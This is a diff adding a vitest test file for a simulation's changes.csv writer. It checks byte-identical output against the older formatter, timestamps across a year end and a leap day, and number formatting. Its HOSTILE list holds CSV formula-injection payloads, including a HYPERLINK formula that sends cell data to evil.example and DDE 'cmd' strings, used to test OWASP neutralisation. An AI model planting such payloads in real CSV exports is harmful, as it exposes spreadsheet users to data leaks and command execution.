@@ -1,0 +1,104 @@
+// The cheaper changes.csv writer (issue 14, "Cheaper CSV") makes exactly the bytes of the simple
+// formatter it replaced — each change's cells as an array (changeCells), each cell through csvCell,
+// joined with commas — over several scenarios, both variants, hostile class names and timestamps
+// across days, months, years and a leap day.
+import { describe, expect, it } from 'vitest';
+import fc from 'fast-check';
+import { TimeBase } from '../../src/engine/time.js';
+import { runReplication } from '../../src/model/replication.js';
+import type { ChangeRecord } from '../../src/model/records.js';
+import { loadScenario } from '../../src/scenario/index.js';
+import type { Scenario, Variant } from '../../src/scenario/types.js';
+import { ChangesCsvFormatter, numCell } from '../../src/stats/changes-csv.js';
+import { csvCell } from '../../src/stats/csv.js';
+import { changeCells, changesCsv, num } from '../../src/stats/rows.js';
+
+/** The formatter changes.csv used before issue 14: an array of cells per change, each through csvCell. */
+function referenceCsv(changes: readonly ChangeRecord[], tb: TimeBase): string {
+  let out = '';
+  for (const c of changes) out += changeCells(c, tb).map(csvCell).join(',') + '\n';
+  return out;
+}
+
+const WEEK = 10080;
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', 'small, "quick"', 'large\nslow', '-2.5', 'ünïcödé ✓'];
+
+function short(file: string, weeks: number, patch: Partial<Scenario> = {}): Scenario {
+  return { ...loadScenario(file), horizon: weeks * WEEK, warmup: WEEK, ...patch };
+}
+
+function same(s: Scenario, variants: readonly Variant[] = s.variants): number {
+  const tb = new TimeBase(s.start);
+  let rows = 0;
+  for (const v of variants) {
+    for (const r of [1, 2]) {
+      const changes = runReplication(s, v, r).changes;
+      rows += changes.length;
+      expect(changesCsv(changes, tb)).toBe(referenceCsv(changes, tb));
+    }
+  }
+  return rows;
+}
+
+describe('changes.csv writer (issue 14): byte-identical to the simple formatter', () => {
+  it('the shipped scenarios, both variants, two replications each', () => {
+    for (const file of ['scenarios/ops-run-it.yaml', 'scenarios/ops-run-it-25-teams.yaml', 'scenarios/retail-bank.yaml', 'scenarios/twice-weekly-cab.yaml']) {
+      expect(same(short(file, 12))).toBeGreaterThan(100);
+    }
+  });
+
+  it('hostile class names keep the OWASP neutralisation and the quoting', () => {
+    const base = loadScenario('scenarios/ops-run-it.yaml');
+    const classes = HOSTILE.map((name, i) => ({ ...base.classes[i % base.classes.length]!, name, share: 1 / HOSTILE.length }));
+    const s: Scenario = { ...base, horizon: 10 * WEEK, warmup: WEEK, classes };
+    expect(same(s)).toBeGreaterThan(100);
+    const text = changesCsv(runReplication(s, 'normal', 1).changes, new TimeBase(s.start));
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`);
+    expect(text).toContain(`,'@SUM(1+1),`);
+    expect(text).toContain(`,-2.5,`); // a plain number is left as it is
+  });
+
+  it('timestamps across a year end and a leap day (start 2027-12-20, 12 weeks)', () => {
+    const s = short('scenarios/ops-run-it.yaml', 12, { start: '2027-12-20T00:00' });
+    expect(same(s)).toBeGreaterThan(100);
+    const text = changesCsv(runReplication(s, 'normal', 1).changes, new TimeBase(s.start));
+    expect(text).toContain(',2028-02-29T');
+    expect(text).toContain(',2028-01-0');
+  });
+
+  it('a timestamp cell equals csvCell(toIso) for any time, fractions and days far apart included', () => {
+    for (const start of ['2027-01-04T09:30', '1969-12-31T23:59', '0001-01-01T00:00']) {
+      const tb = new TimeBase(start);
+      const f = new ChangesCsvFormatter(tb);
+      fc.assert(
+        fc.property(fc.double({ min: -5e6, max: 5e7, noNaN: true }), (t) => {
+          expect(f.timestamp(t)).toBe(csvCell(tb.toIso(t)));
+        }),
+        { seed: 14, numRuns: 2000 },
+      );
+      expect(f.timestamp(NaN)).toBe('');
+      expect(f.timestamp(Infinity)).toBe('');
+      expect(f.timestamp(0.5)).toBe(csvCell(tb.toIso(0.5)));
+      expect(f.timestamp(-0.5)).toBe(csvCell(tb.toIso(-0.5)));
+    }
+  });
+});
+
+describe('changes.csv numbers (issue 14): assembled from whole part and decimals, the same text as String', () => {
+  it('numCell(x, d) equals csvCell(num(x, d)) for any double, 0 to 4 decimals', () => {
+    for (const digits of [0, 1, 2, 3, 4]) {
+      fc.assert(
+        fc.property(fc.oneof(fc.double({ noNaN: false }), fc.double({ min: -1e6, max: 1e6 }), fc.integer({ min: -1e9, max: 1e9 }).map((i) => i / 10 ** digits)), (x) => {
+          expect(numCell(x, digits)).toBe(csvCell(num(x, digits)));
+        }),
+        { seed: 1414, numRuns: 5000 },
+      );
+    }
+    expect(numCell(-0.00004, 4)).toBe('0');
+    expect(numCell(2.5, 0)).toBe('3');
+    expect(numCell(-2.5, 0)).toBe('-2');
+    expect(numCell(1234.5, 2)).toBe('1234.5');
+    expect(numCell(-0.1, 4)).toBe('-0.1');
+    expect(numCell(1e15, 2)).toBe('1000000000000000');
+  });
+});
